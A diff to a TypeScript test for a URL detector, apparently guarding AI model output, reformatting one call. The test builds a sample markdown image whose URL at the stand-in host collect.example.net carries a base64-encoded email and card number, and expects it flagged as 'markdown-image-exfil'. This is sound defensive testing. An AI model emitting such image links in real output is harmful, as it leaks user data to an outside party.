@@ -267,7 +267,10 @@ describe("urls: base64 payloads that decode to text", () => {
     const { defaultDetectorSettings } = await import("../../policy/detector-settings.js");
     const payload = Buffer.from("john@example.com:4111111111111111").toString("base64");
     const text = `Done! ![x](https://collect.example.net/p.png?d=${payload})`;
-    const findings = await urlsDetector.detect(normalize(text), { stage: "output", settings: defaultDetectorSettings() });
+    const findings = await urlsDetector.detect(normalize(text), {
+      stage: "output",
+      settings: defaultDetectorSettings(),
+    });
     expect(findings.some((f) => f.label === "markdown-image-exfil" && f.score >= 0.5)).toBe(true);
   });
 });
